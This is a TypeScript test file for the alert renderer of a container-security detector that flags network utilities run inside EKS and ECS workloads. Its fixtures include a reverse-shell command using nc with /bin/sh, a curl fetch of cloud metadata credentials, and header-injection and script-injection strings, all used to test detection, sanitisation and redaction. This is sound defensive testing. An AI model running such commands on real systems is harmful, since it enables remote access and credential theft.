import { Buffer } from "node:buffer";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Signal } from "../../src/model.js";
import { buildSignals } from "../../src/signals/build.js";
import {
  ENVELOPE_MARGIN_BYTES,
  MESSAGE_BUDGET_BYTES,
  renderEmail,
  renderJson,
  renderSnsMessage,
  renderSubject,
  SNS_MESSAGE_LIMIT_BYTES,
  SUBJECT_MAX_CHARS,
} from "../../src/signals/render.js";
import { again, finding } from "./finding-factory.js";

const SUBJECT = /^[\x20-\x7E]{1,99}$/;

/** The realistic EKS signal: curl from /tmp reaching the metadata endpoint, seen twice. */
function eksSignal(): Signal {
  const base = finding();
  const [signal] = buildSignals(
    [base, again(base, "38000000000000000000000000000000000000000000000000000002", "2024-05-01T10:00:05Z")],
    { region: "eu-west-1" },
  );
  return signal!;
}

/** An ECS Exec session running `nc -e /bin/sh`. */
function ecsSignal(): Signal {
  const f = finding({
    utility: { name: "nc", category: "relay" },
    severity: "critical",
    reasons: ["nc executes a shell (-e)"],
  });
  f.event.process = { name: "nc", args: ["-e", "/bin/sh", "203.0.113.9", "4444"] };
  f.event.ancestors = [];
  f.event.container = { name: "web" };
  f.event.workload = {
    platform: "ecs",
    cluster: "arn:aws:ecs:eu-west-1:123456789012:cluster/prod",
    task: "arn:aws:ecs:eu-west-1:123456789012:task/prod/0a1b2c3d4e5f",
  };
  f.event.viaExecSession = true;
  f.event.sessionKey = "ecs-execute-command-0123456789abcdef0";
  f.event.actor = { user: "arn:aws:sts::123456789012:assumed-role/Admin/bob", sourceIPs: ["198.51.100.4"] };
  f.event.source = {
    ...f.event.source,
    format: "cloudtrail-ecs-exec",
    logGroup: "aws-cloudtrail-logs",
    logStream: "123456789012_CloudTrail_eu-west-1",
  };
  f.process = f.event.process;
  return buildSignals([f])[0]!;
}

/** A copy of `signal` with raw (unredacted, unsanitized) values poked into it. */
function poke(signal: Signal, mutate: (s: Signal) => void): Signal {
  const copy = structuredClone(signal);
  mutate(copy);
  return copy;
}

function parseMessage(message: string): { default: string; email: string } {
  return JSON.parse(message) as { default: string; email: string };
}

describe("renderSubject", () => {
  it("names severity, rule, utility and the EKS workload", () => {
    expect(renderSubject(eksSignal())).toBe(
      "[HIGH] Network utility executed in container: curl in prod-eks/payments/api-7d9f",
    );
  });

  it("names the ECS cluster, task and container", () => {
    expect(renderSubject(ecsSignal())).toBe(
      "[CRITICAL] Network utility executed in container: nc in prod/0a1b2c3d4e5f/web",
    );
  });

  it("shortens a long ECS task id so the container still shows", () => {
    const signal = poke(ecsSignal(), (s) => {
      s.workload.task = "arn:aws:ecs:eu-west-1:123456789012:task/prod/0f6c2d9e8b7a41c3a5d4e3f2b1a09c8d";
      s.container.name = "payments-api";
    });

    expect(renderSubject(signal)).toBe(
      "[CRITICAL] Network utility executed in container: nc in prod/0f6c2d9e8b7a/payments-api",
    );
  });

  it("falls back to the container when there is no orchestrator", () => {
    const signal = poke(eksSignal(), (s) => {
      s.workload = { platform: "docker" };
    });

    expect(renderSubject(signal)).toBe("[HIGH] Network utility executed in container: curl in api");
  });

  it.each<[string, (s: Signal) => void]>([
    ["emoji", (s) => (s.workload.pod = "api-\u{1f600}\u{1f4a5}-7d9f")],
    ["newlines", (s) => (s.utility.name = "curl\r\nBcc: victim@example.com")],
    ["ANSI escapes", (s) => (s.workload.namespace = "\x1b[2J\x1b]0;owned\x07payments")],
    ["a 10 KB pod name", (s) => (s.workload.pod = "p".repeat(10_240))],
    ["bidi overrides", (s) => (s.container.name = "\u202etxt.exe")],
    ["accents", (s) => (s.workload.namespace = "paiements-\u00e9t\u00e9")],
    [
      "an empty utility and workload",
      (s) => {
        s.utility.name = "";
        s.process.name = "";
        s.workload = { platform: "unknown" };
        s.container = { id: null, name: null, image: null };
      },
    ],
  ])("stays printable ASCII, one line, at most 99 characters with %s", (_name, mutate) => {
    const subject = renderSubject(poke(eksSignal(), mutate));

    expect(subject).toMatch(SUBJECT);
  });

  it("folds accents and marks what it cannot print", () => {
    const signal = poke(eksSignal(), (s) => {
      s.workload.namespace = "paiements-\u00e9t\u00e9";
      s.workload.pod = "api-\u{1f600}";
    });

    expect(renderSubject(signal)).toBe(
      "[HIGH] Network utility executed in container: curl in prod-eks/paiements-ete/api-?",
    );
  });

  it("cuts a long subject at 99 characters with an ellipsis", () => {
    const subject = renderSubject(poke(eksSignal(), (s) => (s.workload.pod = "p".repeat(500))));

    expect(subject).toHaveLength(SUBJECT_MAX_CHARS);
    expect(subject.endsWith("...")).toBe(true);
  });

  it("always matches the SNS subject rules, whatever the fields hold", () => {
    const text = fc.string({ unit: "binary", maxLength: 200 });
    fc.assert(
      fc.property(
        fc.record({
          utility: text,
          cluster: text,
          namespace: text,
          pod: text,
          name: text,
          severity: text,
          task: text,
        }),
        fc.constantFrom("eks", "ecs", "docker", "unknown"),
        (fields, platform) => {
          const signal = poke(eksSignal(), (s) => {
            s.utility.name = fields.utility;
            s.process.name = fields.utility;
            s.severity = fields.severity as Signal["severity"];
            s.workload = {
              platform: platform as Signal["workload"]["platform"],
              cluster: fields.cluster,
              namespace: fields.namespace,
              pod: fields.pod,
              task: fields.task,
            };
            s.container.name = fields.name;
          });

          expect(renderSubject(signal)).toMatch(SUBJECT);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("renderEmail", () => {
  it("reads as plain text with every part a responder needs", () => {
    const signal = eksSignal();

    expect(renderEmail(signal)).toBe(`Network utility executed in container - severity HIGH

The process \`curl\` was executed, potentially to download additional tools.
curl executed in container api (payments/api-7d9f) from /tmp

Why it matters
  - the arguments reach a cloud credential endpoint (169.254.169.254)
  - the utility lies in a writable place (/tmp/curl)
  - a network utility ran in a container

Where
  Platform:        Amazon EKS
  Cluster:         prod-eks
  Namespace:       payments
  Pod:             api-7d9f
  Container:       api
  Container id:    containerd://3f2a9c1b0d4e5f60718293a4b5c6d7e8f90123456789abcdef0123456789abcd
  Image:           123456789012.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
  Node:            ip-10-0-1-23.eu-west-1.compute.internal

Process
  Utility:         curl (download)
  Executable:      /tmp/curl
  Command line:    curl -s -o /tmp/x http://169.254.169.254/latest/meta-data/iam/security-credentials/
  Process tree (oldest first):
    /usr/bin/containerd-shim-runc-v2 -namespace k8s.io
    \\_ /usr/local/bin/node server.js
       \\_ /bin/sh -c '/tmp/curl -s -o /tmp/x http://169.254.169.254/latest/meta-data/'
          \\_ /tmp/curl -s -o /tmp/x http://169.254.169.254/latest/meta-data/iam/security-credentials/

Seen
  Count:           2
  First seen:      2024-05-01T10:00:00.123456789Z
  Last seen:       2024-05-01T10:00:05Z

Triage and response
  1. Decide whether this execution is expected for this workload (a known job, a health check, a sanctioned debugging session).
  2. Review the process ancestry and the arguments for unexpected processes or files that were executed.
  3. If it is unexpected, contain it: stop or isolate the workload depending on the stage of the attack, rotate credentials it could reach (task role, instance profile, service account token), look for signs of the initial compromise, and follow your incident response process.
  4. Establish what the attacker did with the network tool: review other security signals around the time of the event to trace the attack path (for suspected DNS exfiltration, examine DNS traffic and resolvers).
  5. Find and fix the root cause of the compromise.

Links
  Log stream:      https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Faws$252Fcontainerinsights$252Fprod-eks$252Ftetragon/log-events/tetragon$252Fip-10-0-1-23$255B1$255D
  MITRE TA0011:    https://attack.mitre.org/tactics/TA0011/
  MITRE T1105:     https://attack.mitre.org/techniques/T1105/
  Rule:            https://github.com/netutil-detector/netutil-detector#the-rule

Signal
  Id:              ${signal.id}
  Rule id:         net_util_in_container
  Source format:   tetragon
  Log group:       /aws/containerinsights/prod-eks/tetragon
  Log stream:      tetragon/ip-10-0-1-23[1]
  Account:         123456789012
  Event ids:       38000000000000000000000000000000000000000000000000000001, 38000000000000000000000000000000000000000000000000000002
`);
  });

  it("shows an ECS Exec session with its cluster, task, container and who opened it", () => {
    const email = renderEmail(ecsSignal());

    expect(email).toContain("  Platform:        Amazon ECS\n");
    expect(email).toContain("  Cluster:         arn:aws:ecs:eu-west-1:123456789012:cluster/prod\n");
    expect(email).toContain("  Task:            arn:aws:ecs:eu-west-1:123456789012:task/prod/0a1b2c3d4e5f\n");
    expect(email).toContain("  Container:       web\n");
    expect(email).toContain(
      "  Exec session:    ECS Exec by arn:aws:sts::123456789012:assumed-role/Admin/bob from 198.51.100.4\n",
    );
    expect(email).toContain("  Command line:    nc -e /bin/sh 203.0.113.9 4444\n");
    expect(email).not.toContain("Namespace:");
  });

  it("has no HTML and no control characters besides line breaks", () => {
    const signal = poke(eksSignal(), (s) => {
      s.process.args = ["<script>alert(1)</script>", "\x1b[31mred", "a\rb"];
    });

    const email = renderEmail(signal);

    expect(email).toContain("'<script>alert(1)</script>' red 'a b'");
    expect(email.replace(/\n/g, "")).not.toMatch(/[\p{Cc}]/u);
  });
});

describe("renderJson", () => {
  it("is the signal itself when it fits", () => {
    const signal = eksSignal();

    expect(JSON.parse(renderJson(signal))).toEqual(signal);
  });

  it("cuts evidence to its budget and says so", () => {
    const signal = poke(eksSignal(), (s) => (s.process.args = ["x".repeat(1_000_000)]));

    const json = renderJson(signal, 50_000);
    const parsed = JSON.parse(json) as Signal & { truncated?: boolean };

    expect(Buffer.byteLength(json)).toBeLessThanOrEqual(50_000);
    expect(parsed.truncated).toBe(true);
    expect(parsed.process.args[0]).toMatch(/^x+…\[truncated \d+ chars\]$/);
    expect(parsed.id).toBe(signal.id);
  });
});

describe("renderSnsMessage", () => {
  it("carries the JSON as default and the email text, and counts its bytes", () => {
    const signal = eksSignal();

    const sns = renderSnsMessage(signal);
    const structure = parseMessage(sns.message);

    expect(Object.keys(structure)).toEqual(["default", "email"]);
    expect(JSON.parse(structure.default)).toEqual(signal);
    expect(structure.email).toBe(renderEmail(signal));
    expect(sns.subject).toBe(renderSubject(signal));
    expect(sns.bytes).toBe(Buffer.byteLength(sns.message) + Buffer.byteLength(sns.subject));
  });

  it("keeps a signal with 1 MB of arguments under the SNS limit, valid, and visibly truncated", () => {
    const f = finding();
    f.event.process.args = ["-d", "y".repeat(1_000_000), "https://example.com/upload"];
    const [signal] = buildSignals([f]);

    const sns = renderSnsMessage(signal!);
    const structure = parseMessage(sns.message);
    const json = JSON.parse(structure.default) as Signal & { truncated?: boolean };

    expect(sns.bytes).toBeLessThanOrEqual(SNS_MESSAGE_LIMIT_BYTES - ENVELOPE_MARGIN_BYTES);
    expect(json.truncated).toBe(true);
    expect(json.process.args[1]).toMatch(/…\[truncated \d+ chars\]$/);
    expect(json.process.args[2]).toBe("https://example.com/upload");
    expect(structure.email).toContain("…[truncated ");
    expect(structure.email).toContain("Some evidence was truncated to fit the notification size limit");
  });

  it.each<[string, (s: Signal) => void]>([
    [
      "200,000 short arguments",
      (s) => (s.process.args = Array.from({ length: 200_000 }, (_, i) => `-v${i}`)),
    ],
    [
      "16 ancestors with 5,000 arguments each",
      (s) =>
        (s.ancestors = Array.from({ length: 16 }, (_, i) => ({
          name: `p${i}`,
          path: `/bin/p${i}`,
          args: Array.from({ length: 5000 }, () => "a".repeat(100)),
        }))),
    ],
    ["1 MB of four-byte emoji", (s) => (s.process.args = ["\u{1f600}".repeat(500_000)])],
    ["1 MB of quotes and backslashes", (s) => (s.process.args = ['"\\'.repeat(500_000)])],
    [
      "500 long reasons",
      (s) => (s.reasons = Array.from({ length: 500 }, (_, i) => `${i} ${"r".repeat(2000)}`)),
    ],
    [
      "every text field 1 MB",
      (s) => {
        const big = "b".repeat(1_000_000);
        s.title = big;
        s.process = { name: big, path: big, args: [big] };
        s.utility.name = big;
        s.container = { id: big, name: big, image: big };
        s.workload = { platform: "eks", cluster: big, namespace: big, pod: big, node: big };
        s.source = { ...s.source, logGroup: big, logStream: big, owner: big, eventIds: Array(50).fill(big) };
        s.ancestors = Array.from({ length: 16 }, () => ({ name: big, path: big, args: [big, big] }));
        s.actor = { user: big, sourceIPs: Array(16).fill(big), userAgent: big };
        s.links.logStream = big;
      },
    ],
  ])("stays within the limit with %s", (_name, mutate) => {
    const signal = poke(eksSignal(), mutate);

    const sns = renderSnsMessage(signal);
    const structure = parseMessage(sns.message);

    expect(sns.bytes).toBeLessThanOrEqual(MESSAGE_BUDGET_BYTES);
    expect(sns.bytes).toBe(Buffer.byteLength(sns.message) + Buffer.byteLength(sns.subject));
    expect((JSON.parse(structure.default) as { truncated?: boolean; id: string }).truncated).toBe(true);
    expect((JSON.parse(structure.default) as { id: string }).id).toBe(signal.id);
    expect(sns.subject).toMatch(SUBJECT);
  });

  it("redacts again a signal that did not come from buildSignals", () => {
    const signal = poke(eksSignal(), (s) => {
      s.process.args = ["-H", "Authorization: Bearer handmadeSecret1", "https://u:handmadeSecret2@h/"];
      s.title = "token=handmadeSecret3";
    });

    const sns = renderSnsMessage(signal);

    expect(sns.message).not.toMatch(/handmadeSecret/);
    expect(renderJson(signal)).not.toMatch(/handmadeSecret/);
    expect(renderEmail(signal)).not.toMatch(/handmadeSecret/);
  });
});
